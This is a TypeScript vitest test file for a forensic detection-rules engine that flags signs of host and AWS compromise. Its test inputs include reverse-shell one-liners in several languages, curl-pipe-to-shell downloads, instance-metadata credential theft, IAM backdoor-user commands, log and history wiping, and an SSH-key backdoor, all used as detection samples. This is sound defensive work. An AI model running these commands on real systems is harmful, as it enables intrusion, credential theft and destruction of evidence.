/**
 * The analysis rules, one by one, on minimal positive and negative inputs in the real formats the
 * collectors produce; the parsers; and the generic engine. Pure: no AWS.
 */
import { describe, expect, it } from 'vitest';
import {
  ANALYSIS_RULES,
  ARTIFACT_FORMATS,
  ARTIFACT_KINDS,
  applyRules,
  buildMatchContext,
  canonicalIp,
  canonicalKind,
  conditionFields,
  evaluate,
  FORMAT_FIELDS,
  ipsIn,
  isPublicIp,
  parseArtifact,
  type ArtifactKind,
} from '../../../src/pipeline/forensics/analysisRules.js';
import { VOLATILE_ITEM_IDS } from '../../../src/pipeline/forensics/volatileCommands.js';

const WINDOW = { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' };
const ctx = buildMatchContext({ knownBadIps: ['198.51.100.77'], findingRemoteIp: '203.0.113.45', instanceAddresses: ['192.0.2.10'], window: WINDOW });
const REF = Date.parse(WINDOW.until);

const epoch = (iso: string) => (Date.parse(iso) / 1000).toFixed(10);
/** A disk listing row: find -printf '%T@\t%y\t%M\t%U\t%G\t%s\t/%p\t%l\n'. */
const row = (iso: string, type: string, size: number, path: string, link = '') =>
  `${epoch(iso)}\t${type}\t${type === 'd' ? 'drwxr-xr-x' : type === 'l' ? 'lrwxrwxrwx' : '-rw-r--r--'}\t0\t0\t${size}\t${path}\t${link}`;
const IN = '2025-05-21T14:10:03Z';
const OLD = '2024-11-18T06:30:00Z';
/** ps -e -ww -o pid,ppid,user:32,lstart,args --no-headers */
const ps = (args: string, user = 'root') => `   4242       1 ${user.padEnd(32)} Wed May 21 14:09:31 2025 ${args}`;
const exe = (target: string) => `lrwxrwxrwx 1 root root 0 May 21 14:09 /proc/4242/exe -> ${target}`;
const ct = (e: Record<string, unknown>) =>
  JSON.stringify({ Records: [{ eventVersion: '1.09', eventTime: '2025-05-21T14:08:15Z', awsRegion: 'us-east-1', userIdentity: { type: 'AssumedRole', accessKeyId: 'ASIARFZ5EXAMPLE7IXQF' }, ...e }] });
const access = (request: string) => `198.51.100.99 - - [21/May/2025:14:05:30 +0000] "${request}" 200 54 "-" "curl/8.5.0"`;

interface Case {
  rule: string;
  kind: ArtifactKind;
  /** Each text on its own must make the rule fire. */
  pos: string[];
  /** None of these may. */
  neg: string[];
}

const CASES: Case[] = [
  {
    rule: 'net-finding-remote-ip',
    kind: 'volatile:network-connections',
    pos: ['ESTAB 0 0 10.0.2.15:43512 203.0.113.45:4444 users:(("bash",pid=3391,fd=0))', 'ESTAB 0 0 [::ffff:10.0.2.15]:43512 [::ffff:203.0.113.45]:4444'],
    neg: ['ESTAB 0 0 10.0.2.15:43512 203.0.113.46:4444 users:(("bash",pid=3391,fd=0))', 'LISTEN 0 128 0.0.0.0:22 0.0.0.0:*'],
  },
  {
    rule: 'net-known-bad-ip',
    kind: 'volatile:network-connections',
    pos: ['ESTAB 0 52 10.0.2.15:22 198.51.100.77:51234 users:(("sshd",pid=5118,fd=4))'],
    neg: ['ESTAB 0 0 10.0.2.15:43512 203.0.113.45:4444', 'ESTAB 0 0 10.0.2.15:22 10.0.1.5:50122'],
  },
  {
    rule: 'net-mining-pool-port',
    kind: 'volatile:network-connections',
    pos: ['ESTAB 0 0 10.0.2.15:39877 198.51.100.23:3333 users:(("xmrig",pid=4242,fd=22))', 'ESTAB 0 0 10.0.2.15:39877 198.51.100.23:14444'],
    neg: ['ESTAB 0 0 10.0.2.15:39877 198.51.100.23:443', 'LISTEN 0 128 0.0.0.0:3333 0.0.0.0:*', 'ESTAB 0 0 10.0.2.15:39877 10.0.3.5:3333', 'TIME-WAIT 0 0 10.0.2.15:39877 198.51.100.23:3333'],
  },
  {
    rule: 'net-shell-listener',
    kind: 'volatile:listening-sockets',
    pos: ['tcp   LISTEN 0 1 0.0.0.0:4444 0.0.0.0:* users:(("nc",pid=77,fd=3))', 'tcp   LISTEN 0 5 0.0.0.0:8000 0.0.0.0:* users:(("python3",pid=78,fd=3))'],
    neg: ['tcp   LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=801,fd=3))', 'tcp   LISTEN 0 511 *:80 *:* users:(("apache2",pid=870,fd=4))'],
  },
  {
    rule: 'text-known-bad-ip',
    kind: 'volatile:last-logins',
    pos: ['root     pts/1        198.51.100.77    Wed May 21 14:44:18 2025   still logged in'],
    neg: ['ubuntu   pts/0        10.0.1.5         Wed May 21 13:40:52 2025 - Wed May 21 13:52:40 2025  (00:11)'],
  },
  {
    rule: 'text-known-bad-ip',
    kind: 'disk:logs',
    pos: ['May 21 14:44:18 ip-10-0-2-15 sshd[5118]: Accepted publickey for root from 198.51.100.77 port 51234 ssh2', access('GET /?x=203.0.113.45 HTTP/1.1')],
    neg: ['May 21 14:02:33 ip-10-0-2-15 sshd[3150]: Invalid user oracle from 203.0.113.200 port 40112'],
  },
  {
    rule: 'reverse-shell',
    kind: 'volatile:shell-histories',
    pos: [
      "bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'",
      'nc -e /bin/sh 203.0.113.45 4444',
      'nc 203.0.113.45 4444 -e /bin/bash',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.45 4444 >/tmp/f',
      `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.45",4444));os.dup2(s.fileno(),0);import pty; pty.spawn("sh")'`,
      `php -r '$sock=fsockopen("203.0.113.45",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `perl -e 'use Socket;$i="203.0.113.45";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
      `ruby -rsocket -e'f=TCPSocket.open("203.0.113.45",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
      'socat tcp-connect:203.0.113.45:4444 exec:/bin/bash,pty,stderr,setsid',
      'ncat 203.0.113.45 4444 --sh-exec /bin/bash',
      'exec 5<>/dev/tcp/203.0.113.45/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
      'sh -i 2>&1 >& /dev/udp/203.0.113.45/53 0>&1',
    ],
    neg: ['nc -zv 10.0.3.20 3306', 'python3 -m http.server 8000', 'cat /dev/null', 'rsync -e ssh -a ./site/ web:/var/www/', 'tail -f /var/log/syslog', `python3 -c 'import pty; pty.spawn("/bin/bash")'`, "timeout 1 bash -c 'echo > /dev/tcp/10.0.3.20/3306' && echo open", 'cat < /dev/tcp/10.0.3.20/22'],
  },
  {
    rule: 'reverse-shell',
    kind: 'volatile:processes',
    pos: [ps('bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1', 'www-data')],
    neg: [ps('bash -i', 'www-data'), ps('/usr/sbin/apache2 -k start', 'www-data')],
  },
  {
    rule: 'crypto-miner',
    kind: 'volatile:processes',
    pos: [ps('/tmp/.x/xmrig -o stratum+tcp://198.51.100.23:3333 -u 48edfHu7V9Z8 -k'), ps('./kdevtmpfsi'), ps('/opt/x/syslogd --donate-level 1 -o pool:3333'), ps('/usr/bin/minerd -a cryptonight -o stratum+tcp://pool.example:3333')],
    neg: [ps('/usr/sbin/apache2 -k start'), ps('/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers')],
  },
  {
    rule: 'crypto-miner',
    kind: 'disk:logs',
    pos: ['May 21 14:09:31 ip-10-0-2-15 kernel: [195408.774310] msr: Write to unrecognized MSR 0x1a4 by xmrig (pid: 4242), please report to x86@kernel.org.'],
    neg: ['May 21 14:09:31 ip-10-0-2-15 kernel: [195408.774310] audit: type=1400 audit(1747836224.401:210): apparmor="ALLOWED"'],
  },
  {
    rule: 'imds-credential-access',
    kind: 'disk:logs',
    pos: [
      access('GET /hackable/uploads/cmd.php?cmd=curl+-s+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fdvwa-ec2-role HTTP/1.1'),
      access('GET /x.php?c=curl%20http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1'),
    ],
    neg: [
      "2025-05-19 08:12:14,233 - url_helper.py[DEBUG]: Read from http://169.254.169.254/2021-03-23/meta-data/iam/info (200, 230b) after 1 attempts",
      access('GET /x.php?c=curl%20http://169.254.169.254/latest/meta-data/instance-id HTTP/1.1'),
    ],
  },
  {
    rule: 'imds-credential-access',
    kind: 'volatile:shell-histories',
    pos: ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role', 'curl -H "X-aws-ec2-metadata-token: $T" http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/'],
    neg: ['curl -s http://169.254.169.254/latest/meta-data/placement/availability-zone'],
  },
  {
    rule: 'aws-iam-persistence-command',
    kind: 'volatile:shell-histories',
    pos: ['aws iam create-user --user-name backup-svc', 'aws --region us-east-1 iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess', 'aws iam create-access-key --user-name backup-svc'],
    neg: ['aws iam list-users', 'aws s3 ls s3://dvwa-app-uploads', 'aws sts get-caller-identity'],
  },
  {
    rule: 'download-and-execute',
    kind: 'volatile:shell-histories',
    pos: ['curl -fsSL http://198.51.100.23/x.sh | sh', 'wget -q -O /tmp/x http://198.51.100.23/x', 'chmod +x /tmp/.ICE-unix/.x/xmrig', 'curl http://198.51.100.23/y | sudo bash'],
    neg: ['curl -fsSL https://get.docker.com -o get-docker.sh', 'wget https://example.com/file.tar.gz', 'chmod 600 /home/ubuntu/.ssh/id_rsa'],
  },
  {
    rule: 'history-tampering',
    kind: 'volatile:shell-histories',
    pos: ['history -c', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'HISTSIZE=0', 'ln -sf /dev/null /root/.bash_history', 'rm -f /root/.bash_history', '> ~/.bash_history', 'set +o history'],
    neg: ['history | tail -n 20', 'cat ~/.bash_history', 'echo $HISTFILE', 'export HISTSIZE=10000'],
  },
  {
    rule: 'log-tampering',
    kind: 'volatile:shell-histories',
    pos: ['truncate -s 0 /var/log/auth.log', '> /var/log/wtmp', 'cat /dev/null > /var/log/syslog', 'rm -rf /var/log/apache2/*', 'shred -u /var/log/auth.log', 'journalctl --vacuum-time=1s', 'find /var/log -type f -delete'],
    neg: ['tail -f /var/log/syslog', 'less /var/log/auth.log', 'grep sshd /var/log/auth.log > /tmp/ssh.txt', 'echo started >> /var/log/app.log'],
  },
  {
    rule: 'log-tampering',
    kind: 'disk:logs',
    pos: ['May 21 14:46:09 ip-10-0-2-15 sudo:   ubuntu : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log'],
    neg: ['May 21 13:41:20 ip-10-0-2-15 sudo:   ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/bin/apt-get update'],
  },
  {
    rule: 'authorized-keys-write-command',
    kind: 'volatile:shell-histories',
    pos: ['echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK8v root@kali" >> /root/.ssh/authorized_keys', 'cat key.pub >> ~/.ssh/authorized_keys'],
    neg: ['cat ~/.ssh/authorized_keys', 'chmod 600 ~/.ssh/authorized_keys'],
  },
  {
    rule: 'process-from-temp-dir',
    kind: 'volatile:processes',
    pos: [ps('/dev/shm/.k/kworker -c /dev/shm/.k/c.json'), ps('/var/tmp/.cache/agent')],
    neg: [ps('/usr/sbin/cron -f -P'), ps('tmux new -s work'), ps('/tmpfoo/bin/x')],
  },
  {
    rule: 'process-from-temp-dir',
    kind: 'volatile:deleted-binaries',
    pos: [exe('/tmp/.ICE-unix/.x/xmrig (deleted)')],
    neg: [exe('/usr/sbin/sshd (deleted)')],
  },
  {
    rule: 'process-deleted-binary',
    kind: 'volatile:deleted-binaries',
    pos: [exe('/tmp/.ICE-unix/.x/xmrig (deleted)'), exe('/opt/app/bin/agent (deleted)')],
    neg: [exe('/usr/sbin/sshd (deleted)'), exe('/lib/systemd/systemd-journald (deleted)')],
  },
  {
    rule: 'rootkit-module',
    kind: 'volatile:kernel-modules',
    pos: ['Module                  Size  Used by\ndiamorphine            16384  0'],
    neg: ['Module                  Size  Used by\nena                   155648  0\nnvme_core             212992  3 nvme'],
  },
  {
    rule: 'history-linked-to-dev-null',
    kind: 'disk:listing',
    pos: [row(IN, 'l', 9, '/root/.bash_history', '/dev/null'), row(OLD, 'l', 9, '/home/u/.zsh_history', '/dev/null')],
    neg: [row(IN, 'f', 412, '/root/.bash_history'), row(IN, 'l', 12, '/home/u/.bash_history', '/home/u/.hist'), row(IN, 'l', 9, '/etc/motd', '/dev/null')],
  },
  {
    rule: 'history-linked-to-dev-null',
    kind: 'volatile:shell-histories',
    pos: ['===== /root/.bash_history -> /dev/null (symlink, not followed)'],
    neg: ['===== /root/.bash_history\n-rw------- 1 root root 57 May 16 10:30 /root/.bash_history\napt list --upgradable'],
  },
  {
    rule: 'history-empty',
    kind: 'disk:listing',
    pos: [row(IN, 'f', 0, '/home/ubuntu/.bash_history')],
    neg: [row(IN, 'f', 412, '/home/ubuntu/.bash_history'), row(IN, 'f', 0, '/var/log/btmp')],
  },
  {
    rule: 'history-empty',
    kind: 'volatile:shell-histories',
    pos: ['===== /root/.bash_history\n-rw------- 1 root root 0 May 21 14:12 /root/.bash_history'],
    neg: ['===== /root/.bash_history\n-rw------- 1 root root 57 May 21 14:12 /root/.bash_history\nls'],
  },
  {
    rule: 'log-truncated',
    kind: 'disk:listing',
    pos: [row(IN, 'f', 0, '/var/log/auth.log'), row(IN, 'f', 0, '/var/log/wtmp')],
    neg: [row(IN, 'f', 0, '/var/log/btmp'), row(IN, 'f', 48213, '/var/log/auth.log'), row(IN, 'f', 0, '/var/log/apache2/access.log')],
  },
  {
    rule: 'auth-log-missing',
    kind: 'disk:listing',
    // absent: fires when no line names an authentication log
    pos: [[row(IN, 'd', 4096, '/var/log'), row(IN, 'f', 1000, '/var/log/syslog')].join('\n')],
    neg: [[row(IN, 'd', 4096, '/var/log'), row(IN, 'f', 1000, '/var/log/secure')].join('\n'), row(IN, 'f', 0, '/var/log/auth.log')],
  },
  {
    rule: 'authorized-keys-changed',
    kind: 'disk:listing',
    pos: [row('2025-05-21T14:11:47Z', 'f', 589, '/root/.ssh/authorized_keys'), row('2025-05-21T13:30:00Z', 'f', 1, '/home/a/.ssh/authorized_keys2')],
    neg: [row('2025-03-02T09:15:44Z', 'f', 399, '/home/ubuntu/.ssh/authorized_keys'), row('2025-05-21T15:00:01Z', 'f', 399, '/root/.ssh/authorized_keys'), row(IN, 'f', 399, '/root/.ssh/known_hosts')],
  },
  {
    rule: 'authorized-keys-changed',
    kind: 'volatile:authorized-keys',
    pos: ['===== /root/.ssh/authorized_keys\n-rw------- 1 root root 589 May 21 14:11 /root/.ssh/authorized_keys\nssh-ed25519 AAAA root@kali'],
    neg: ['===== /home/ubuntu/.ssh/authorized_keys\n-rw------- 1 ubuntu ubuntu 399 Mar  2 09:15 /home/ubuntu/.ssh/authorized_keys\nssh-rsa AAAA ops', '===== /root/.ssh/authorized_keys\n-rw------- 1 root root 399 Nov 18  2024 /root/.ssh/authorized_keys'],
  },
  {
    rule: 'persistence-changed',
    kind: 'disk:listing',
    pos: [row(IN, 'f', 300, '/etc/systemd/system/kworkerd.service'), row(IN, 'f', 266, '/var/spool/cron/crontabs/root'), row(IN, 'f', 3106, '/root/.bashrc'), row(IN, 'f', 20, '/etc/ld.so.preload'), row(IN, 'f', 60, '/etc/sudoers.d/backdoor')],
    neg: [row(OLD, 'f', 300, '/etc/systemd/system/apache2.service'), row(IN, 'f', 88214, '/var/log/syslog'), row(IN, 'f', 412, '/home/ubuntu/.bash_history')],
  },
  {
    rule: 'persistence-changed',
    kind: 'volatile:crontabs',
    pos: ['===== /var/spool/cron/crontabs/root\n-rw------- 1 root crontab 266 May 21 14:10 /var/spool/cron/crontabs/root\n*/10 * * * * curl -fsSL http://198.51.100.23/x.sh | sh'],
    neg: ['===== /etc/crontab\n-rw-r--r-- 1 root root 1136 Mar 23  2024 /etc/crontab\n17 * * * * root cd / && run-parts --report /etc/cron.hourly'],
  },
  {
    rule: 'ld-so-preload',
    kind: 'disk:listing',
    pos: [row(OLD, 'f', 24, '/etc/ld.so.preload')],
    neg: [row(OLD, 'f', 0, '/etc/ld.so.preload'), row(OLD, 'f', 24, '/etc/ld.so.conf')],
  },
  {
    rule: 'persistence-runs-from-temp',
    kind: 'disk:cron',
    pos: ['@reboot /tmp/.x/xmrig -B', '*/5 * * * * root /var/tmp/.update.sh'],
    neg: ['# (/tmp/crontab.Xk3Lq2/crontab installed on Wed May 21 14:10:03 2025)', '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly'],
  },
  {
    rule: 'persistence-runs-from-temp',
    kind: 'disk:persistence',
    pos: ['ExecStart=/dev/shm/.k/agent --daemon'],
    neg: ['PrivateTmp=true', 'ExecStart=/usr/sbin/apache2 -k start'],
  },
  {
    rule: 'hidden-temp-entry',
    kind: 'disk:listing',
    pos: [row(IN, 'd', 4096, '/tmp/.ICE-unix/.x'), row(IN, 'f', 10, '/dev/shm/.cache/k'), row(IN, 'f', 10, '/var/tmp/.update.sh')],
    neg: [row(OLD, 'd', 4096, '/tmp/.X11-unix'), row(OLD, 's', 0, '/tmp/.ICE-unix/1234'), row(OLD, 'd', 4096, '/tmp/systemd-private-3c0e-chrony.service-Qm2x8T'), row(OLD, 'f', 10, '/home/u/.bashrc')],
  },
  {
    rule: 'web-script-in-upload-dir',
    kind: 'disk:weblisting',
    pos: [row(IN, 'f', 32, '/var/www/html/hackable/uploads/cmd.php'), row(OLD, 'f', 32, '/var/www/wp-content/uploads/2025/05/x.PHTML'), row(OLD, 'f', 32, '/srv/app/user_uploads/a.jsp')],
    neg: [row(OLD, 'f', 2090, '/var/www/html/vulnerabilities/upload/index.php'), row(IN, 'f', 667, '/var/www/html/hackable/uploads/photo.png'), row(IN, 'd', 4096, '/var/www/html/hackable/uploads/x.php')],
  },
  {
    rule: 'web-script-in-upload-dir',
    kind: 'volatile:web-recent-files',
    pos: ['1747836312.4468331270 32 644 www-data /var/www/html/hackable/uploads/cmd.php'],
    neg: ['1747837800.1200000000 4370 644 root /var/www/html/index.php'],
  },
  {
    rule: 'web-file-changed-in-window',
    kind: 'disk:weblisting',
    pos: [row(IN, 'f', 4370, '/var/www/html/index.php')],
    neg: [row(OLD, 'f', 4370, '/var/www/html/index.php'), row(IN, 'd', 4096, '/var/www/html/hackable/uploads')],
  },
  {
    rule: 'web-shell-request',
    kind: 'disk:logs',
    pos: [access('GET /hackable/uploads/cmd.php?cmd=id HTTP/1.1'), access('POST /wp-content/uploads/2025/05/s.phtml HTTP/1.1')],
    neg: [access('GET /hackable/uploads/dvwa_email.png HTTP/1.1'), access('POST /vulnerabilities/upload/ HTTP/1.1'), access('GET /index.php?page=uploads/x.php HTTP/1.1')],
  },
  {
    rule: 'account-uid0-not-root',
    kind: 'disk:accounts',
    pos: ['#user\tuid\tgid\tshell\tpassword\tlastchange_days\ntoor\t0\t0\t/bin/bash\tset\t20229'],
    neg: ['root\t0\t0\t/bin/bash\tnone\t20045', 'ubuntu\t1000\t1000\t/bin/bash\tnone\t20045'],
  },
  {
    rule: 'account-password-changed',
    kind: 'disk:accounts',
    pos: ['deploy\t1001\t1001\t/bin/bash\tset\t20229'],
    neg: ['deploy\t1001\t1001\t/bin/bash\tset\t20228', 'ghost\t1002\t1002\t/bin/sh\tno-shadow-entry\t'],
  },
  {
    rule: 'cloudtrail-iam-persistence',
    kind: 'cloudtrail',
    pos: [ct({ eventSource: 'iam.amazonaws.com', eventName: 'CreateUser', sourceIPAddress: '10.0.2.15' }), ct({ eventSource: 'iam.amazonaws.com', eventName: 'AttachRolePolicy', sourceIPAddress: '10.0.2.15', errorCode: 'AccessDenied' })],
    neg: [ct({ eventSource: 'iam.amazonaws.com', eventName: 'ListUsers', sourceIPAddress: '198.51.100.77' }), ct({ eventSource: 'cognito-idp.amazonaws.com', eventName: 'CreateUser', sourceIPAddress: '10.0.2.15' })],
  },
  {
    rule: 'cloudtrail-call-from-outside-aws',
    kind: 'cloudtrail',
    pos: [ct({ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', sourceIPAddress: '198.51.100.77' }), ct({ eventSource: 'ec2.amazonaws.com', eventName: 'DescribeInstances', sourceIPAddress: '2001:db8::77' })],
    neg: [
      ct({ eventSource: 'ssm.amazonaws.com', eventName: 'UpdateInstanceInformation', sourceIPAddress: '192.0.2.10' }),
      ct({ eventSource: 'logs.amazonaws.com', eventName: 'CreateLogStream', sourceIPAddress: '10.0.2.15' }),
      ct({ eventSource: 'kms.amazonaws.com', eventName: 'GenerateDataKey', sourceIPAddress: 's3.amazonaws.com' }),
      ct({ eventSource: 'kms.amazonaws.com', eventName: 'Decrypt', sourceIPAddress: 'AWS Internal' }),
    ],
  },
  {
    rule: 'cloudtrail-known-bad-ip',
    kind: 'cloudtrail',
    pos: [ct({ eventSource: 'iam.amazonaws.com', eventName: 'ListUsers', sourceIPAddress: '198.51.100.77' })],
    neg: [ct({ eventSource: 'iam.amazonaws.com', eventName: 'ListUsers', sourceIPAddress: '198.51.100.78' })],
  },
];

function fires(ruleId: string, kind: ArtifactKind, text: string): boolean {
  const rule = ANALYSIS_RULES.find((r) => r.id === ruleId)!;
  return applyRules(kind, parseArtifact(kind, text, { referenceTimeMs: REF }), ctx, [rule]).length > 0;
}

describe('each rule on minimal positive and negative inputs', () => {
  for (const c of CASES) {
    it(`${c.rule} on ${c.kind}`, () => {
      for (const text of c.pos) expect({ text, fires: fires(c.rule, c.kind, text) }).toEqual({ text, fires: true });
      for (const text of c.neg) expect({ text, fires: fires(c.rule, c.kind, text) }).toEqual({ text, fires: false });
    });
  }

  it('every rule has at least one case, and every case names a rule that reads its kind', () => {
    const covered = new Set(CASES.map((c) => c.rule));
    expect(ANALYSIS_RULES.map((r) => r.id).filter((id) => !covered.has(id))).toEqual([]);
    for (const c of CASES) expect(ANALYSIS_RULES.find((r) => r.id === c.rule)?.sources).toContain(c.kind);
  });
});

describe('the rules as data', () => {
  it('have unique ids, known sources, compiling expressions and fields their sources provide', () => {
    const ids = ANALYSIS_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of ANALYSIS_RULES) {
      expect(rule.sources.length, rule.id).toBeGreaterThan(0);
      expect(['critical', 'high', 'medium', 'low']).toContain(rule.severity);
      for (const kind of rule.sources) {
        expect(ARTIFACT_KINDS, rule.id).toContain(kind);
        const fields = FORMAT_FIELDS[ARTIFACT_FORMATS[kind]];
        // Every field is produced by the kind's parser for at least part of the condition.
        expect(conditionFields(rule.match).some((f) => fields.includes(f)), `${rule.id} reads nothing ${kind} provides`).toBe(true);
      }
      for (const f of conditionFields(rule.match)) {
        expect(rule.sources.some((k) => FORMAT_FIELDS[ARTIFACT_FORMATS[k]].includes(f)), `${rule.id}: no source provides ${f}`).toBe(true);
      }
    }
  });

  it('names a kind for every item the volatile collector produces (volatile:<item id>)', () => {
    for (const id of VOLATILE_ITEM_IDS) expect(canonicalKind(`volatile:${id}`), id).toBe(`volatile:${id}`);
    expect(canonicalKind('volatile:connections')).toBe('volatile:network-connections');
    expect(canonicalKind('volatile:authorized_keys')).toBe('volatile:authorized-keys');
    expect(canonicalKind('volatile:nonsense')).toBeUndefined();
  });
});

describe('parsers', () => {
  it('reads ps with a header row (any -eo column set ending in the command)', () => {
    const parsed = parseArtifact('volatile:processes', '    PID    PPID USER         ELAPSED COMMAND\n   4242       1 root           41:12 /tmp/.x/xmrig -o stratum+tcp://198.51.100.23:3333\n');
    expect(parsed.problems).toEqual([]);
    expect(parsed.records).toHaveLength(1);
    expect(parsed.records[0]).toMatchObject({ n: 2, fields: { pid: 4242, ppid: 1, user: 'root', exe: '/tmp/.x/xmrig', ips: ['198.51.100.23'] } });
  });

  it('reads ps lstart lines with their start time', () => {
    const parsed = parseArtifact('volatile:processes', `${ps('bash -i', 'www-data')}\n`);
    expect(parsed.records[0]!.fields).toMatchObject({ pid: 4242, user: 'www-data', startedMs: Date.parse('2025-05-21T14:09:31Z'), args: 'bash -i', exe: 'bash' });
  });

  it('reads ss with and without the Netid column, IPv6 and IPv4-mapped addresses, and the owning processes', () => {
    const parsed = parseArtifact(
      'volatile:listening-sockets',
      'Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n' +
        'udp   UNCONN 0      0      10.0.2.15%ens5:68   0.0.0.0:*  users:(("systemd-network",pid=602,fd=18))\n' +
        'tcp   ESTAB  0      0      [::ffff:10.0.2.15]:80 [::ffff:10.0.1.201]:33412 users:(("apache2",pid=1022,fd=11),("apache2",pid=1022,fd=12))\n' +
        'tcp   ESTAB  0      0      [2001:db8::5]:22 [2001:DB8:0::77]:50000\n',
    );
    expect(parsed.problems).toEqual([]);
    expect(parsed.records.map((r) => [r.fields.localIp, r.fields.localPort, r.fields.peerIp, r.fields.peerPort, r.fields.processes])).toEqual([
      ['10.0.2.15', 68, '0.0.0.0', undefined, ['systemd-network']],
      ['10.0.2.15', 80, '10.0.1.201', 33412, ['apache2']],
      ['2001:db8::5', 22, '2001:db8::77', 50000, []],
    ]);
  });

  it('places ls -l dates without a year in the year before the reference when they would be in the future', () => {
    const text = '===== /root/.ssh/authorized_keys\n-rw------- 1 root root 589 Dec 30 23:59 /root/.ssh/authorized_keys\n';
    const parsed = parseArtifact('volatile:authorized-keys', text, { referenceTimeMs: Date.parse('2025-01-02T00:00:00Z') });
    expect(parsed.records[1]!.fields).toMatchObject({ path: '/root/.ssh/authorized_keys', size: 589, type: 'f', mtimeMs: Date.parse('2024-12-30T23:59:00Z'), file: '/root/.ssh/authorized_keys' });
  });

  it('percent-decodes web log lines (and only log kinds)', () => {
    const line = access('GET /a.php?cmd=ls+-la%20%2Ftmp HTTP/1.1');
    expect(parseArtifact('disk:logs', line).records[0]!.fields.text).toContain('cmd=ls -la /tmp');
    expect(parseArtifact('disk:histories', line).records[0]!.fields.text).toBe(line);
  });

  it('reads CloudTrail from pull-cloudtrail documents, LookupEvents responses and trail log files; reports what it cannot read', () => {
    const inner = { eventName: 'CreateUser', eventSource: 'iam.amazonaws.com', sourceIPAddress: '198.51.100.77', eventTime: '2025-05-21T14:08:15Z', userIdentity: { accessKeyId: 'ASIARFZ5EXAMPLE7IXQF', arn: 'arn:aws:sts::1:assumed-role/r/i-1' } };
    for (const doc of [{ events: [{ EventId: 'e1', CloudTrailEvent: JSON.stringify(inner) }] }, { Events: [{ EventId: 'e1', CloudTrailEvent: JSON.stringify(inner) }] }, { Records: [{ ...inner, eventID: 'e1' }] }]) {
      const parsed = parseArtifact('cloudtrail', JSON.stringify(doc));
      expect(parsed.unit).toBe('event');
      expect(parsed.records[0]!.fields).toMatchObject({ eventId: 'e1', eventName: 'CreateUser', sourceIPAddress: '198.51.100.77', accessKeyId: 'ASIARFZ5EXAMPLE7IXQF', eventTimeMs: Date.parse('2025-05-21T14:08:15Z') });
    }
    expect(parseArtifact('cloudtrail', '{not json').problems[0]).toMatch(/^not JSON/);
    expect(parseArtifact('cloudtrail', '{"foo": []}').problems).toEqual(['no events, Events or Records array']);
  });

  it('reports lines a strict format cannot read instead of guessing', () => {
    expect(parseArtifact('disk:listing', 'garbage line\n').problems).toHaveLength(1);
    expect(parseArtifact('volatile:network-connections', 'State Recv-Q\nnot ss at all\n').problems).toHaveLength(1);
  });
});

describe('the engine', () => {
  it('canonicalises IPs and finds them in text', () => {
    expect(canonicalIp('::ffff:198.51.100.77')).toBe('198.51.100.77');
    expect(canonicalIp('[2001:DB8:0:0::1]')).toBe('2001:db8::1');
    expect(canonicalIp('fe80::1%eth0')).toBe('fe80::1');
    expect(canonicalIp('999.1.1.1')).toBeUndefined();
    expect(canonicalIp('example.com')).toBeUndefined();
    expect(ipsIn('from 198.51.100.77 port 22 to [2001:db8::9]:443 at 14:44:18 ver 1.2.3.4.5')).toEqual(['198.51.100.77', '2001:db8::9']);
    expect(isPublicIp('198.51.100.77')).toBe(true);
    expect(isPublicIp('10.0.2.15')).toBe(false);
    expect(isPublicIp('169.254.169.254')).toBe(false);
    expect(isPublicIp('s3.amazonaws.com')).toBe(false);
  });

  it('counts the finding remote IP as known bad, and never matches a window it was not given', () => {
    expect(ctx.sets.knownBadIps).toEqual(new Set(['198.51.100.77', '203.0.113.45']));
    const noWindow = buildMatchContext({});
    expect(evaluate({ field: 't', withinWindow: 'exact' }, { t: Date.parse('2025-05-21T14:00:00Z') }, noWindow)).toBe(false);
    expect(evaluate({ field: 't', withinWindow: 'exact' }, { t: Date.parse('2025-05-21T14:00:00Z') }, ctx)).toBe(true);
    expect(evaluate({ field: 't', withinWindow: 'day' }, { t: Date.parse('2025-05-21T00:00:00Z') }, ctx)).toBe(true);
    expect(evaluate({ field: 't', withinWindow: 'exact' }, { t: Date.parse('2025-05-21T00:00:00Z') }, ctx)).toBe(false);
  });

  it('tests list fields element by element, and treats a missing field as no match', () => {
    expect(evaluate({ field: 'ips', inSet: 'knownBadIps' }, { ips: ['10.0.0.1', '198.51.100.77'] }, ctx)).toBe(true);
    expect(evaluate({ field: 'ips', inSet: 'knownBadIps' }, { ips: [] }, ctx)).toBe(false);
    expect(evaluate({ field: 'nope', matches: '.*' }, {}, ctx)).toBe(false);
    expect(evaluate({ not: { field: 'nope', matches: '.*' } }, {}, ctx)).toBe(true);
    expect(evaluate({ all: [{ field: 'a', equals: 1 }, { field: 'b', oneOf: ['x', 'y'] }] }, { a: 1, b: 'y' }, ctx)).toBe(true);
